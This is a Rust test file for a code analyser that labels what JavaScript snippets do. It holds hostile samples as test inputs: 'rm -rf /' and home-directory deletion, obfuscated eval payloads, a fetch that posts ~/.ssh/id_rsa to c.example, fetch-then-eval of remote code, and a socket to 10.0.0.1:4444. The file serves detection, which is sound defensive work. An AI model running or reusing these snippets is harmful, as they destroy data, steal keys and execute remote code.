use super::check;
use crate::knowledge::Lang::JavaScript;

#[test]
fn processes() {
    check(
        JavaScript,
        &[
            ("require('child_process').execSync('rm -rf /')", "shell rm -rf /"),
            ("const {execSync: x} = require('child_process'); x('id')", "shell id"),
            ("const cp = require('node:child_process'); cp.spawn('rm', ['-rf', '/'])", "argv rm -rf /"),
            ("import { exec } from 'child_process';\nexec(`rm -rf ${dir}`)", "shell rm -rf ?"),
            ("import * as cp from 'child_process'; cp.exec('id', (e, out) => console.log(out))", "shell id"),
            ("import cp from 'child_process'; cp['exec'+'Sync']('id')", "shell id"),
            ("process.mainModule.require('child_process').exec('id')", "shell id"),
            ("globalThis.process.kill(process.ppid)", "kill $PPID"),
            ("global['eval'](\"require('fs').unlinkSync('a')\")", "delete a"),
            (
                "const { promisify } = require('util'); const ex = promisify(require('child_process').exec); await ex('id')",
                "shell id",
            ),
            ("(await import('child_process')).execSync('id')", "shell id"),
            ("import('node:child_process').then(c => c.execSync('id'))", "shell id"),
            ("await Bun.$`rm -rf /`", "shell rm -rf /"),
            ("import { $ } from 'bun'; await $`ls ${x}`", "shell ls ?"),
            ("Bun.spawn(['rm', '-rf', '/'])", "argv rm -rf /"),
            ("await new Deno.Command('rm', { args: ['-rf', '/'] }).output()", "argv rm -rf /"),
            ("Deno.run({ cmd: ['ls'] })", "argv ls"),
            (
                "const {spawn} = require('child_process'); spawn('a b', {shell: true, cwd: '/x'})",
                "shell a b in /x",
            ),
            (
                "const run = (c) => require('child_process').execSync(c); run('ls'); run('id')",
                "shell ls; shell id",
            ),
            ("function run(c) { return require('child_process').execSync(c) }\n", "shell ?"),
            (
                "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp', 'base64').toString())",
                "shell id",
            ),
            ("eval(atob('YWxlcnQoMSk='))", ""),
            ("new Function('return process')()", ""),
            ("new Function(\"require('child_process').execSync('id')\")()", "shell id"),
            ("require('child_process').exec(String.fromCharCode(114,109))", "shell rm"),
            ("require('child_process').exec('/ fr- mr'.split('').reverse().join(''))", "shell rm -rf /"),
            ("require('child_process').exec(['rm','-rf','/'].join(' '))", "shell rm -rf /"),
            ("(0, require('child_process').execSync)('id')", "shell id"),
            ("require('child_process').execSync.call(null, 'id')", "shell id"),
        ],
    );
}

#[test]
fn files() {
    check(
        JavaScript,
        &[
            (
                "const fs=require('fs'),os=require('os');fs.rmSync(os.homedir(),{recursive:true,force:true})",
                "delete! ~",
            ),
            ("import { rm } from 'node:fs/promises'; await rm('/etc', { recursive: true })", "delete! /etc"),
            (
                "import { readFileSync, writeFileSync } from 'node:fs';\nconst s = JSON.parse(readFileSync('o.json', 'utf8'));\nwriteFileSync('o.json', JSON.stringify(s, null, 2) + '\\n');",
                "read o.json; write o.json",
            ),
            ("fs.unlinkSync('a')", "delete a"),
            ("const fs = require('fs').promises; await fs.unlink('a')", "delete a"),
            (
                "const path = require('path'); require('fs').rmSync(path.join(process.env.HOME, 'x'))",
                "delete ~/x",
            ),
            ("for (const f of fs.readdirSync('/etc')) fs.unlinkSync('/etc/' + f)", "delete /etc/*"),
            ("fs.readdirSync('/etc').forEach(f => fs.unlinkSync(`/etc/${f}`))", "delete /etc/*"),
            (
                "fs.readdir('/etc', (err, files) => { for (const f of files) fs.unlink('/etc/' + f, () => {}) })",
                "delete /etc/*",
            ),
            (
                "fs.readdirSync('.').filter(f => f.endsWith('.tmp')).forEach(f => fs.unlinkSync(f))",
                "delete ?",
            ),
            (
                "fs.renameSync('a', 'b'); fs.chmodSync('c', 0o777); fs.cpSync('d', 'e')",
                "move a b; mode c; read d; write e",
            ),
            (
                "await Deno.remove('/x', { recursive: true }); Deno.writeTextFileSync('y', 'z')",
                "delete! /x; write y",
            ),
            ("await Bun.write('out.txt', 'x')", "write out.txt"),
            ("fs.createWriteStream('/dev/sda')", "write /dev/sda"),
            ("const p = '/'; const q = p + 'etc'; fs.rmSync(q)", "delete /etc"),
        ],
    );
}

#[test]
fn network() {
    check(
        JavaScript,
        &[
            (
                "const fs=require('fs'),os=require('os');fetch('https://c.example/x',{method:'POST',body:fs.readFileSync(os.homedir()+'/.ssh/id_rsa')})",
                "read ~/.ssh/id_rsa; send https://c.example/x",
            ),
            (
                "const r = await fetch('https://a.example'); console.log(await r.json())",
                "fetch https://a.example",
            ),
            (
                "fetch('https://a.example').then(r => r.text()).then(eval)",
                "fetch https://a.example; eval downloaded",
            ),
            ("eval(await (await fetch(url)).text())", "fetch ?; eval downloaded"),
            ("const axios = require('axios'); axios.post('https://a', {x: 1})", "send https://a"),
            ("require('net').connect(4444, '10.0.0.1')", "connect 10.0.0.1:4444"),
            (
                "const s = new net.Socket(); s.connect(4444, '10.0.0.1', function(){})",
                "connect 10.0.0.1:4444",
            ),
            (
                "require('http').createServer((q, s) => s.end('x')).listen(3000, '127.0.0.1')",
                "listen 127.0.0.1",
            ),
            ("const app = express(); app.listen(3000)", "listen"),
            ("https.request({hostname: 'a.example', path: '/x', method: 'PUT'})", "send a.example/x"),
            ("https.get('https://a', res => res.on('data', d => eval(d)))", "fetch https://a; eval"),
            ("const db = require('better-sqlite3')('a.db'); db.exec('drop table t')", "sql drop table t"),
        ],
    );
}

#[test]
fn ordinary() {
    check(
        JavaScript,
        &[
            ("const re=/rm\\s+-rf\\s+(\\S+)/; console.log(re.exec(\"rm -rf /tmp/x\")[1])", ""),
            ("const p=require('./package.json'); console.log(Object.keys(p.scripts).join('\\n'))", ""),
            ("process.versions.v8 + ' ' + require('typescript').version", ""),
            ("// require('fs').rmSync('/')\n/* eval(x) */ const a = `eval(${1})`;", ""),
            (
                "const x = a / b / c; const y = /[/]'\"/.test(s); map.delete('k'); arr.pop(); set.delete(x)",
                "",
            ),
            (
                "for (const [path, ops] of Object.entries(spec.paths)) { for (const op of Object.values(ops)) op.tags ??= [path.split('/')[1]]; }",
                "",
            ),
            ("class A { constructor(x) { this.x = x } get y() { return this.x } static z = 1 }", ""),
            ("const rm = (x) => x.filter(Boolean); rm([1,2])", ""),
            (
                "import React from 'react'; export default function App() { return <div className=\"x\">{1}</div> }",
                "",
            ),
            ("const f = async ({ exec, fs }) => { exec('rm -rf /'); fs.rmSync('/') }", ""),
            ("interface A { x: string }\nconst y: Record<string, number> = { a: 1 };", ""),
            (
                "let i = 0; while (i < 10) { i++; if (i % 2) continue; console.log(`${i}: ${'a'.repeat(i)}`) }",
                "",
            ),
        ],
    );
}
